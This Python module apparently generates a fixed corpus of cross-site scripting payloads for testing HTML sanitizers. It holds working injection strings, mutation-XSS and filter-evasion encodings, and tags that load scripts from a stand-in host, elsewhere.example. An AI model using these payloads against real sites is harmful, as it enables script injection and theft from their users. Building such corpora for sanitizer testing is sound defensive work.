"""Texts that run as a script wherever they are not escaped: ways out, elements, and ways to write them, multiplied.

Each sets `window.__pwned` or asks for something elsewhere when it runs.
"""

import re
from collections.abc import Callable, Iterator
from itertools import product
from random import Random
from urllib.parse import quote

RUN = "window.__pwned=1"
ELSEWHERE = "//elsewhere.example"
#: The shortest that runs: columns shorter than this cannot hold one.
SHORTEST = f"<svg onload={RUN}>"
EVENTS = {
    "onload": ("svg", "body", "iframe", "style", "link rel=stylesheet href=/x"),
    "onerror": ("img src=x", "video src=x", "audio src=x", "object data=x", "script src=/x", "input type=image src=x"),
    "onfocus": ("input autofocus", "a href=# autofocus", "select autofocus", "div tabindex=0 autofocus"),
    "ontoggle": ("details open",),
    "onanimationstart": ("b style=animation:x",),
    "onpointerover": ("p",),
    "onclick": ("button",),
    "onbegin": ("svg><animate attributeName=x dur=1s",),
    "onpageshow": ("body",),
    "onbeforetoggle": ("div popover id=x",),
}
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<a href=javascript:{RUN}>go</a>",
    f"<a href='java\tscript:{RUN}'>go</a>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<button form=x formaction=javascript:{RUN}>go</button>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f"<img src={ELSEWHERE}/x.png>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><use href='{ELSEWHERE}/x#y'></use></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<div hx-get={ELSEWHERE} hx-trigger=load></div>",
    f"<div hx-on:load='{RUN}' hx-get=/ hx-trigger=load></div>",
    f"<div hx-vals='js:{{a:{RUN}}}' hx-get=/ hx-trigger=load></div>",
    f"<div data-dialog=palette data-peek='{ELSEWHERE}'></div>",
    f"javascript:{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    f"https://x.example/'onpointerover='{RUN}",
    f'http://x.example/"><img src=x onerror={RUN}>',
    f"[go](javascript:{RUN})",
    f"{{{{ ''.__class__ }}}}{{% raw %}}<script>{RUN}</script>",
    f"${{{RUN}}}",
)
#: How the place a text stands in may be left before it.
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</style>",
    "</select>",
    '"/>',
)


def entities(text: str) -> str:
    return text.replace("<", "&#x000003c;").replace(">", "&#0000062")


def twice(text: str) -> str:
    return text.replace("<", "&amp;lt;").replace(">", "&amp;gt;")


def scrambled(text: str) -> str:
    return text.replace("<script", "<scr<script>ipt").replace("onerror", "on<b>error").replace("onload", "on\nload")


def mixed_case(text: str) -> str:
    mixed = "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(text))
    return re.sub(re.escape(RUN), RUN, mixed, flags=re.IGNORECASE)  # what runs must stay as it is


def slashed(text: str) -> str:
    return text.replace(" ", "/")


def broken_lines(text: str) -> str:
    return text.replace(" ", "\n", 1).replace("=", "\r\n=\t", 1)


def full_width(text: str) -> str:
    return text.replace("<", "\uff1c").replace(">", "\uff1e").replace('"', "\uff02")


def escaped(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\x3e")


def plain(text: str) -> str:
    return text


WAYS_TO_WRITE: tuple[Callable[[str], str], ...] = (
    plain,
    entities,
    twice,
    scrambled,
    mixed_case,
    slashed,
    broken_lines,
    full_width,
    escaped,
    quote,
)


def _all() -> Iterator[str]:
    elements = [f"<{tag} {event}={RUN}>" for event, tags in EVENTS.items() for tag in tags]
    for way_out, element, write in product(WAYS_OUT, (*elements, *ELEMENTS), WAYS_TO_WRITE):
        yield write(way_out + element)


def corpus(count: int) -> list[str]:
    """Return so many different payloads, the same ones every time; fewer when there are no more."""
    every = list(dict.fromkeys(_all()))
    shortest, *others = (SHORTEST, *(text for text in every if text != SHORTEST))
    Random(1).shuffle(others)
    return [shortest, *others][:count]
